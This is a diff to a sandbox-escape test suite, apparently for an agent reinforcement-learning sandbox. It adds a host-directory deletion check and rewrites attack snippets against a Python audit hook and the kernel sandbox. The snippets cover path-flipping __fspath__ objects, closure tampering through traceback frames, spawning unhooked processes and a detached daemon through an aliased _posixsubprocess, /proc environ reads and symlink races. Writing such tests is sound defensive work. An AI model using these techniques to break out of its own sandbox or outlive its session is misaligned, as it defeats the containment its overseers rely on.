@@ -3,7 +3,8 @@
 Every attack runs in the bwrap backend; unless its class is the audit hook itself, with the in-process hook
 layer switched off, so what holds is the kernel alone. After each run the judge checks, from the host:
 
-- no canary file appeared at the host paths the attack tried to create;
+- no canary file appeared at the host paths the attack tried to create, and a host directory that
+  the attack tried to delete is still there;
 - the loopback TCP, Unix-path and abstract Unix-socket listeners received nothing;
 - ``ps`` shows no process of the sandbox uid and no child of this test process left behind;
 - this process and a victim process of the sandbox's host uid are alive; ``core_pattern`` is unchanged;
@@ -53,6 +54,7 @@ class Judge:
     abstract: str
     secret_file: str
     secret_dir: str
+    keep_dir: str
     victim: subprocess.Popen
     core_pattern: str
     received: list = field(default_factory=list)
@@ -67,12 +69,14 @@ class Judge:
     def prelude(self, canary: str) -> str:
         """Constants an attacker knows (where the prizes are) and ``win()``: what it does once out."""
         return (f"import os, sys\nCANARY = {canary!r}\nPORT = {self.port}\nUNIX = {self.unix_path!r}\n"
-                f"ABSTRACT = {self.abstract!r}\nSECRET_FILE = {self.secret_file!r}\nHOST_PID = {os.getpid()}\n"
+                f"ABSTRACT = {self.abstract!r}\nSECRET_FILE = {self.secret_file!r}\nKEEP_DIR = {self.keep_dir!r}\n"
+                f"HOST_PID = {os.getpid()}\n"
                 f"VICTIM_PID = {self.victim.pid}\n" + WIN + "# --end of prelude--\n")
 
     def check(self, output: str, canary: str, *, settle_s: float = 0.05) -> None:
         time.sleep(settle_s)
         assert not os.path.exists(canary), f"the sandbox created {canary} on the host"
+        assert os.path.exists(os.path.join(self.keep_dir, "data")), f"the sandbox deleted {self.keep_dir} on the host"
         assert self.received == [], f"a host listener was reached: {self.received}"
         assert SECRET not in output, "the host's secret came back in the output"
         assert self.victim.poll() is None, "the victim process (host uid of the sandbox) was killed"
@@ -83,6 +87,11 @@ class Judge:
 
 WIN = r'''
 def win(how=""):
+    try:
+        import shutil
+        shutil.rmtree(KEEP_DIR)
+    except BaseException:
+        pass
     try:
         with open(CANARY, "w") as f:
             f.write("escaped " + how)
@@ -177,13 +186,17 @@ def judge_base():
     os.chmod(secret_file, 0o644)  # readable by anyone on the host: only the mount namespace hides it
     secret_dir = f"/tmp/agentrl-secret-dir-{SECRET}"
     os.makedirs(secret_dir, exist_ok=True)
+    keep_dir = f"/tmp/agentrl-keep-{TOKEN}"  # host data the sandbox must not be able to delete
+    os.makedirs(keep_dir, exist_ok=True)
+    open(os.path.join(keep_dir, "data"), "w").close()
+    os.chmod(keep_dir, 0o777)
     identity = {"user": SANDBOX_UID, "group": SANDBOX_UID, "extra_groups": []} if os.getuid() == 0 else {}
     victim = subprocess.Popen(["sleep", "3600"], env={"AGENTRL_ESCAPE_SECRET": SECRET}, **identity)
     received: list = []
     stop = threading.Event()
     unix_path, abstract = f"/tmp/agentrl-escape-{TOKEN}.sock", f"agentrl-escape-{TOKEN}"
     port, thread = _listen(received, stop, unix_path, abstract)
-    judge = Judge(port, unix_path, abstract, secret_file, secret_dir, victim,
+    judge = Judge(port, unix_path, abstract, secret_file, secret_dir, keep_dir, victim,
                   open("/proc/sys/kernel/core_pattern").read(), received)
     judge.before = frozenset(int(line.split()[0]) for line in leftovers(victim.pid).splitlines())
     yield judge
@@ -195,6 +208,7 @@ def judge_base():
         if os.path.lexists(path):
             os.remove(path)
     os.rmdir(secret_dir)
+    shutil.rmtree(keep_dir, ignore_errors=True)
     os.environ.pop("AGENTRL_ESCAPE_SECRET", None)
 
 
@@ -213,29 +227,30 @@ def attack(name: str, body: str, limits: SandboxLimits = KERNEL_ONLY, settle_s: 
 
 
 # --- the audit hook: in-process, trusting objects the attacker controls (hook layer ON) ---
-attack("hook: PathLike whose __fspath__ changes on the second call", '''
+attack("hook: PathLike whose __fspath__ changes after the hook's check (shutil.rmtree)", '''
 class Flip:
     n = 0
     def __fspath__(self):
         Flip.n += 1
-        return "inside.txt" if Flip.n == 1 else CANARY
+        return "inside" if Flip.n == 1 else KEEP_DIR
+os.mkdir("inside")
 try:
-    open(Flip(), "w").write("escaped")
+    import shutil
+    shutil.rmtree(Flip())
 except OSError as e:
-    print("blocked", e)
+    print("no", e)
 win("fspath")
 ''', WITH_HOOK)
-attack("hook: str subclass path that lies to realpath", '''
+attack("hook: str subclass whose methods lie to posixpath.realpath", '''
 class Liar(str):
-    def __fspath__(self):
-        return "inside.txt"
     def startswith(self, *a):
-        return True
+        return False
+    def partition(self, sep):
+        return ("inside.txt", "", "")
 try:
     open(Liar(CANARY), "w").write("escaped")
 except OSError as e:
-    print("blocked", e)
-win("str subclass")
+    print("no", e)
 ''', WITH_HOOK)
 attack("hook: monkeypatched posixpath internals", '''
 import posixpath
@@ -243,57 +258,64 @@ posixpath._joinrealpath = lambda path, rest, strict, seen: (os.getcwd() + "/x", 
 posixpath.realpath = lambda p, strict=False: os.getcwd() + "/x"
 win("monkeypatch")
 ''', WITH_HOOK)
-attack("hook: profiler reaches the hook's frame and widens its roots", '''
-found = []
-def prof(frame, event, arg):
-    if event == "call" and frame.f_code.co_name == "hook":
-        found.append(frame)
-sys.setprofile(prof)
-open("probe.txt", "w").close()
-sys.setprofile(None)
-for frame in found:
-    inside = frame.f_locals.get("inside")
-    if inside is not None:
-        inside.__defaults__ = (("/",),)
+attack("hook: the hook's own traceback frame hands over its closure cells", '''
+try:
+    open("/nonexistent/x", "w")
+except PermissionError as e:
+    tb = e.__traceback__
+    while tb is not None:
+        for value in list(tb.tb_frame.f_locals.values()):
+            for cell in getattr(value, "__closure__", None) or ():
+                if cell.cell_contents is os.path.realpath:
+                    cell.cell_contents = lambda p: os.getcwd()
+        tb = tb.tb_next
 win("frames")
 ''', WITH_HOOK)
 attack("hook: blocked _posixsubprocess loaded under another name spawns an unhooked python", '''
-import importlib.machinery, importlib.util, glob
+import importlib.machinery, importlib.util, glob, time
 so = glob.glob(os.path.join(os.path.dirname(os.__file__), "lib-dynload", "_posixsubprocess*.so"))[0]
 loader = importlib.machinery.ExtensionFileLoader("evil._posixsubprocess", so)
-spec = importlib.util.spec_from_loader("evil._posixsubprocess", loader)
-mod = importlib.util.module_from_spec(spec)
+mod = importlib.util.module_from_spec(importlib.util.spec_from_loader("evil._posixsubprocess", loader))
 loader.exec_module(mod)
 code = open("main.py").read().split("# --end of prelude--")[0] + "\\nwin('spawned')\\n"
 r, w = os.pipe()
-pid = mod.fork_exec([sys.executable, "-I", "-S", "-c", code], [os.fsencode(sys.executable)], True, (), None, None,
-                    -1, -1, -1, -1, -1, -1, r, w, True, False, -1, None, None, None, -1, None)
-os.close(w)
-print("spawned", pid, os.read(r, 100))
-import time; time.sleep(0.5)
-''', WITH_HOOK)
-attack("hook: blocked _socket under another name connects to the host listeners", '''
-import importlib.machinery, importlib.util, glob
-so = glob.glob(os.path.join(os.path.dirname(os.__file__), "lib-dynload", "_socket*.so"))[0]
-loader = importlib.machinery.ExtensionFileLoader("evil._socket", so)
-mod = importlib.util.module_from_spec(importlib.util.spec_from_loader("evil._socket", loader))
-loader.exec_module(mod)
-for family, address in ((mod.AF_INET, ("127.0.0.1", PORT)), (mod.AF_UNIX, UNIX), (mod.AF_UNIX, "\\0" + ABSTRACT)):
+args = [[sys.executable, "-I", "-S", "-c", code], [os.fsencode(sys.executable)], True, (), None, None,
+        -1, -1, -1, -1, -1, -1, r, w, True, False, -1, None, None, None, -1, None]
+for extra in ([], [False]):  # Python 3.11 added allow_vfork
     try:
-        s = mod.socket(family, mod.SOCK_STREAM); s.settimeout(0.3); s.connect(address); s.send(b"escaped")
-    except OSError as e:
-        print("no", e)
+        print("spawned", mod.fork_exec(*args, *extra)); break
+    except TypeError as e:
+        print("signature", e)
+os.close(w)
+time.sleep(0.5)
 ''', WITH_HOOK)
-attack("hook: dir_fd read resolved against the wrong directory", '''
-fd = os.open("/", os.O_RDONLY)
-for rel in (SECRET_FILE.lstrip("/"), "proc/%d/environ" % HOST_PID, "proc/%d/environ" % VICTIM_PID):
+attack("hook: an unhooked setsid daemon through the aliased module outlives the run", '''
+import importlib.machinery, importlib.util, glob
+so = glob.glob(os.path.join(os.path.dirname(os.__file__), "lib-dynload", "_posixsubprocess*.so"))[0]
+loader = importlib.machinery.ExtensionFileLoader("x._posixsubprocess", so)
+mod = importlib.util.module_from_spec(importlib.util.spec_from_loader("x._posixsubprocess", loader))
+loader.exec_module(mod)
+code = (open("main.py").read().split("# --end of prelude--")[0]
+        + "\\nimport time\\nos.close(1)\\nos.close(2)\\ntime.sleep(0.8)\\nfor _ in range(20):\\n    win('daemon')\\n    time.sleep(0.1)\\n")
+r, w = os.pipe()
+args = [[sys.executable, "-I", "-S", "-c", code], [os.fsencode(sys.executable)], True, (), None, None,
+        -1, -1, -1, -1, -1, -1, r, w, True, True, -1, None, None, None, -1, None]
+for extra in ([], [False]):
+    try:
+        print("daemon", mod.fork_exec(*args, *extra)); break
+    except TypeError:
+        pass
+''', WITH_HOOK, settle_s=1.5)
+attack("hook: dir_fd read resolved against the wrong directory (/proc/self/root)", '''
+fd = os.open("/proc/%d" % os.getpid(), os.O_RDONLY)
+for rel in ("root" + SECRET_FILE, "root/proc/%d/environ" % HOST_PID, "root/proc/%d/environ" % VICTIM_PID):
     try:
         print(os.read(os.open(rel, os.O_RDONLY, dir_fd=fd), 4096))
     except OSError as e:
         print("no", e)
 ''', WITH_HOOK)
 attack("hook: check-then-use race swapping a directory for a symlink", '''
-import threading, shutil
+import threading
 target = os.path.dirname(CANARY)
 stop = False
 def flip():
@@ -312,23 +334,13 @@ def flip():
             pass
 t = threading.Thread(target=flip); t.start()
 hits = 0
-for _ in range(3000):
+for _ in range(5000):
     try:
         open("d/" + os.path.basename(CANARY), "w").write("raced"); hits += 1
     except OSError:
         pass
 stop = True; t.join()
 print("writes", hits)
-''', WITH_HOOK)
-attack("hook: clearing the hook by reaching the interpreter through gc", '''
-import gc
-try:
-    hooks = [o for o in gc.get_objects() if callable(o) and getattr(o, "__name__", "") == "hook"]
-    for h in hooks:
-        h.__code__ = (lambda event, args: None).__code__
-except Exception as e:
-    print("no", e)
-win("gc")
 ''', WITH_HOOK)
 
 # --- blocked modules and privileged system calls, with the kernel alone ---
